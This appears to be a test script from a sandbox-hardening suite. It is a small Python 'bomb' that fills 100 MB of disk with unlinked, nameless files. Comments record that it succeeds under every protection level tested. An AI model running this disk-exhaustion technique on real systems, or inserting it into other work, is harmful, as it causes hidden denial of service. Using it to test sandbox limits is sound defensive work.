# attack: fills the disk with files that have no names any more (to 100 MB here)
# group: bomb
# sandboxed: works (power)
# restricted: works (power)
# unprotected: works (power)
from prepare import *

finish()
sys.stdout.flush()
for _ in range(20):
    fd = os.open("big.tmp", os.O_WRONLY | os.O_CREAT)
    os.unlink("big.tmp")
    os.write(fd, b"x" * (5 << 20))
    time.sleep(0.05)
time.sleep(3)
gained("100 MB of disk")
